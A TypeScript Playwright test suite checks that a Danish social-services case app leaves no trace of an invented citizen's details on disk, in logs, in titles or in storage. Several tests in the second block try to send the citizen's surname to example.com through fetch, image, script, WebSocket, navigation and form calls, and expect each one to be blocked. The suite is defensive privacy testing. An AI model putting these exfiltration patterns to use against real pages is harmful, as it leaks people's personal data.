import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchApp, type RunningApp } from '#test/support/launch-app.ts';
import { findPlaintext } from '#test/support/plaintext.ts';
import { callsOf, type Calls, createDatabase, LEADER } from '#test/support/signed-in-app.ts';

const NOW = '2026-11-22T09:00:00.000Z';

/** Words that stand nowhere else, so that finding one is finding the person. */
const CANARY = {
  firstNames: 'Zenobia',
  lastName: 'Kvistgrænseby',
  cpr: '6102840077',
  caseNumber: '27.88441',
  street: 'Flodhestestræde 41',
  city: 'Tårnfalkerup',
  phone: '99887766',
  wishes: 'Vil gerne lære at spille nøgleharpe',
  halfTyped: 'Er bange for elevatoren ved svømmehallen',
  purpose: 'At kunne gå alene til søanemonen',
  searched: 'Kvistgræn',
} as const;
const WRONG_PASSWORD = 'forkert sneglehus kaskade';

/** Everything the program and its browser may write lies below this folder; what leaves it, beside. */
const root = mkdtempSync(path.join(tmpdir(), 'malspor-privacy-'));
const inside = path.join(root, 'inside');
const outside = path.join(root, 'outside');
const dataDir = path.join(inside, 'data');

let app: RunningApp;
let page: Page;
let calls: Calls;
let secrets: readonly string[];
const requested: string[] = [];
const answered: string[] = [];
const complaints: string[] = [];
const titles = new Set<string>();

const button = (name: string) => page.getByRole('button', { name, exact: true });
const dialog = () => page.getByRole('dialog').last();

beforeAll(async () => {
  const home = path.join(inside, 'home');
  const temporary = path.join(inside, 'tmp');
  for (const folder of [home, temporary, outside]) mkdirSync(folder, { recursive: true });
  app = await launchApp({
    dataDir,
    args: [`--now=${NOW}`],
    env: {
      HOME: home,
      TMPDIR: temporary,
      XDG_CACHE_HOME: path.join(home, 'cache'),
      XDG_CONFIG_HOME: path.join(home, 'config'),
      XDG_RUNTIME_DIR: temporary,
    },
  });
  page = await app.firstWindow();
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  page.on('pageerror', (error) => void complaints.push(String(error)));
  page.context().on('request', (request) => void requested.push(request.url()));
  page.context().on('response', (response) => void answered.push(response.url()));
  await page.evaluate(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  const recoveryKey = await createDatabase(page);
  calls = callsOf(page);
  secrets = [
    LEADER.password,
    WRONG_PASSWORD,
    recoveryKey,
    recoveryKey.replaceAll('-', ''),
    recoveryKey.replaceAll('-', ' '),
    CANARY.cpr,
    '610284-0077',
    ...Object.values(CANARY),
  ];
});

afterAll(async () => {
  await app.close();
  rmSync(root, { recursive: true, force: true });
});

async function noteTitles(): Promise<void> {
  for (const { title } of await app.windows()) titles.add(title);
  for (const each of app.pages()) titles.add(await each.title());
}

/** A day’s work with one person: typed, searched, printed, exported, half-finished, locked, refused. */
async function workWithCanary(): Promise<void> {
  await register();
  await page.keyboard.press('Control+k');
  await page.keyboard.type(CANARY.searched);
  await page.getByRole('option').filter({ hasText: CANARY.caseNumber }).waitFor();
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: `${CANARY.firstNames} ${CANARY.lastName}` }).waitFor();
  await button('Skriv').click();
  await page.getByRole('textbox', { name: 'Borgerens mål og ønsker' }).fill(CANARY.wishes);
  await button('Gem').click();
  await page.getByText(CANARY.wishes).waitFor();
  await leaveHalfTyped();
  await print();
  await exportList();
  await provoke();
  await page.keyboard.press('Control+l');
  await page.getByRole('heading', { name: 'Låst' }).waitFor();
  await page.getByLabel('Adgangskode').fill(WRONG_PASSWORD);
  await button('Lås op').click();
  await page.getByText('Brugernavn eller adgangskode passer ikke').waitFor();
  await page.getByLabel('Adgangskode').fill(LEADER.password);
  await button('Lås op').click();
  await page.getByRole('navigation', { name: 'Hovedmenu' }).waitFor();
}

async function register(): Promise<void> {
  await page.getByRole('link', { name: 'Sager' }).first().click();
  await button('Ny sag').click();
  await page.getByLabel('CPR-nummer').fill('610284-0077');
  await button('Find borgeren').click();
  await page.getByLabel('Fornavne').fill(CANARY.firstNames);
  await page.getByLabel('Efternavn').fill(CANARY.lastName);
  await page.getByLabel('Sagsnummer').fill(CANARY.caseNumber);
  await button('Opret sagen').click();
  await page.getByRole('heading', { name: `${CANARY.firstNames} ${CANARY.lastName}` }).waitFor();
  const [row] = (await calls.cases.list(ALL)).rows;
  if (!row) throw new Error('the case is not in the list');
  const { citizen } = await calls.cases.page({ caseId: row.caseId, asOf: null });
  await calls.cases.saveCitizen({
    caseId: row.caseId,
    version: citizen.version,
    citizen: {
      cpr: CANARY.cpr,
      firstNames: CANARY.firstNames,
      lastName: CANARY.lastName,
      birthDate: citizen.birthDate,
      street: CANARY.street,
      postalCode: '9999',
      city: CANARY.city,
      isProtected: false,
      protectedUntil: null,
      phone: CANARY.phone,
      email: null,
    },
  });
}

const ALL = {
  scope: 'my-teams',
  status: 'open',
  teamId: null,
  employeeId: null,
  providerId: null,
  paragraph: null,
  followUp: null,
  text: '',
} as const;

/** A form is left with something in it: kept as a draft, by the program and not by the browser. */
async function leaveHalfTyped(): Promise<void> {
  await button('Ny vurdering').click();
  await dialog().getByRole('textbox', { name: 'Beskrivelse' }).fill(CANARY.halfTyped);
  await expect.poll(async () => (await calls.drafts.list(null)).length).toBeGreaterThan(0);
  await button('Luk og behold kladden').click();
  await page.getByRole('dialog').waitFor({ state: 'detached' });
}

async function print(): Promise<void> {
  await button('Udskriv').click();
  await page.getByText('Skriv hele CPR-nummeret').click();
  const titlesWhilePrinting = setInterval(() => void noteTitles().catch(() => undefined), 50);
  await button('Vis udskriften').click();
  await button('Gem som PDF').waitFor();
  clearInterval(titlesWhilePrinting);
  const filePath = path.join(outside, 'sagsoversigt.pdf');
  await app.answerDialog('showSaveDialog', { canceled: false, filePath });
  await button('Gem som PDF').click();
  await page.getByText('PDF-filen er gemt').waitFor();
  await button('Luk').last().click();
}

async function exportList(): Promise<void> {
  const filePath = path.join(outside, 'liste.csv');
  await app.answerDialog('showSaveDialog', { canceled: false, filePath });
  expect(await calls.cases.exportList(ALL)).toEqual({ saved: true, rows: 1 });
}

/** Refusals and bugs are where a log most easily quotes what it was given. */
async function provoke(): Promise<void> {
  const nonsense = { ...ALL, text: CANARY.wishes, surplus: CANARY.lastName };
  await page.evaluate(
    async ([input, name]) => {
      await window.bridge?.call('cases.list', input);
      await window.bridge?.call(name, input);
      await window.bridge?.call('cases.list', `${name}{`);
    },
    [JSON.stringify(nonsense), CANARY.lastName] as const,
  );
}

describe('a day’s work with one person', () => {
  test('leaves nothing readable on disk while the program runs', async () => {
    await workWithCanary();
    await noteTitles();
    // That the search would find it: the same person, written down by hand.
    const proof = path.join(inside, 'proof');
    writeFileSync(proof, Buffer.from(`x${CANARY.lastName}`, 'utf16le'));
    expect(findPlaintext(inside, secrets)).toContainEqual({
      file: 'proof',
      text: CANARY.lastName,
      as: 'utf-16le',
    });
    rmSync(proof);
    expect(
      readdirSync(path.join(inside, 'tmp')).some((name) => name.startsWith('malspor-host-')),
    ).toBe(app.runsOn === 'host');
    expect(findPlaintext(inside, secrets)).toEqual([]);
  });

  test('leaves the file and the list the person asked for, named by neither', async () => {
    expect(readFileSync(path.join(outside, 'liste.csv'), 'utf8')).toContain(CANARY.lastName);
    const names = (await app.dialogs()).map(({ options }) => options.defaultPath ?? '');
    expect(names).toEqual([
      expect.stringMatching(/^sagsoversigt-2026-11-22-\d{4}-\d+\.pdf$/u),
      expect.stringMatching(/^sagsliste-2026-11-22-\d{4}-\d+\.csv$/u),
    ]);
  });

  test('stands in no title of any window, the hidden print window’s among them', () => {
    expect(titles).toContain('Målspor');
    expect([...titles].filter((title) => secrets.some((secret) => title.includes(secret)))).toEqual(
      [],
    );
  });

  test('stands nowhere in what the program wrote to its terminal and its log', () => {
    const logs = path.join(dataDir, 'logs');
    const names = existsSync(logs) ? readdirSync(logs) : [];
    const written = names.map((name) => readFileSync(path.join(logs, name), 'utf8'));
    const said = [app.output(), ...written].join('\n');
    expect(secrets.filter((secret) => said.includes(secret))).toEqual([]);
  });

  test('asked nothing of any network and broke no rule of the content policy', () => {
    expect(requested.length).toBeGreaterThan(2);
    const foreign = requested.filter(
      (url) => !url.startsWith(new URL(page.url()).origin) && !url.startsWith('data:image/'),
    );
    expect(foreign).toEqual([]);
    expect(app.output()).not.toMatch(/refused/u);
    expect(complaints).toEqual([]);
  });

  test('is in none of the places where a page keeps things', async () => {
    const kept = await page.evaluate(async () => ({
      local: Object.keys(localStorage),
      session: Object.keys(sessionStorage),
      databases: await indexedDB.databases(),
      caches: await caches.keys(),
      cookie: document.cookie,
      workers: (await navigator.serviceWorker?.getRegistrations?.())?.length ?? 0,
    }));
    expect(kept).toMatchObject({ session: [], databases: [], caches: [], cookie: '', workers: 0 });
    expect(kept.local.filter((key) => key !== 'appearance')).toEqual([]);
    expect(page.url()).not.toContain('text=');
  });
});

describe('a page that would leave or take something with it', () => {
  const secret = encodeURIComponent(CANARY.lastName);

  test('can neither go anywhere nor open anything', async () => {
    const at = page.url();
    await page.evaluate((text) => {
      location.href = `https://example.com/?${text}`;
    }, secret);
    await page.evaluate((text) => {
      const link = Object.assign(document.createElement('a'), {
        href: `https://example.com/${text}`,
      });
      link.target = '_blank';
      document.body.append(link);
      link.click();
      link.remove();
    }, secret);
    expect(
      await page.evaluate((text) => window.open(`https://example.com/${text}`) === null, secret),
    ).toBe(true);
    await page.evaluate(() => {
      const form = Object.assign(document.createElement('form'), {
        action: 'https://example.com/',
      });
      document.body.append(form);
      form.submit();
      form.remove();
    });
    // Not by a locator: after a form that was stopped Playwright waits for a page that never comes.
    expect(await page.evaluate(() => document.querySelector('nav') !== null)).toBe(true);
    expect(page.url()).toBe(at);
    expect(await app.windows()).toHaveLength(1);
    expect(await app.openedExternally()).toEqual([]);
  });

  test('cannot send anything, whichever way it tries', async () => {
    const outcome = await page.evaluate(async (text) => {
      const address = `https://example.com/${text}`;
      const image = new Promise((resolve) => {
        const element = new Image();
        element.addEventListener('error', () => resolve('refused'));
        element.addEventListener('load', () => resolve('loaded'));
        element.src = address;
      });
      const script = new Promise((resolve) => {
        const element = document.createElement('script');
        element.addEventListener('error', () => resolve('refused'));
        try {
          element.src = address;
          document.head.append(element);
        } catch {
          resolve('refused');
        }
      });
      const socket = () => {
        try {
          return new Promise((resolve) => {
            const opened = new WebSocket(`wss://example.com/${text}`);
            for (const end of ['error', 'close'])
              opened.addEventListener(end, () => resolve('refused'));
            opened.addEventListener('open', () => resolve('open'));
          });
        } catch {
          return 'refused';
        }
      };
      return {
        fetch: await window.fetch(address).then(
          () => 'sent',
          () => 'refused',
        ),
        image: await image,
        script: await script,
        socket: await socket(),
      };
    }, secret);
    expect(outcome).toEqual({
      fetch: 'refused',
      image: 'refused',
      script: 'refused',
      socket: 'refused',
    });
    expect(answered.filter((url) => url.includes('example.com'))).toEqual([]);
  });

  test('is given no camera, no place, no clipboard and no messages', async () => {
    const states = await page.evaluate(() =>
      Promise.all(
        (['camera', 'microphone', 'geolocation', 'notifications', 'clipboard-read'] as const).map(
          async (name) =>
            (await navigator.permissions.query({ name: name as PermissionName })).state,
        ),
      ),
    );
    expect(states.filter((state) => state === 'granted')).toEqual([]);
  });
});

test('after the program has ended nothing readable is left, and its browser’s folder is gone', async () => {
  await app.close();
  expect(findPlaintext(inside, secrets)).toEqual([]);
  expect(
    readdirSync(path.join(inside, 'tmp')).filter((name) => name.startsWith('malspor-')),
  ).toEqual([]);
  expect(readFileSync(path.join(dataDir, 'malspor.db')).subarray(0, 15).toString()).not.toBe(
    'SQLite format 3',
  );
});
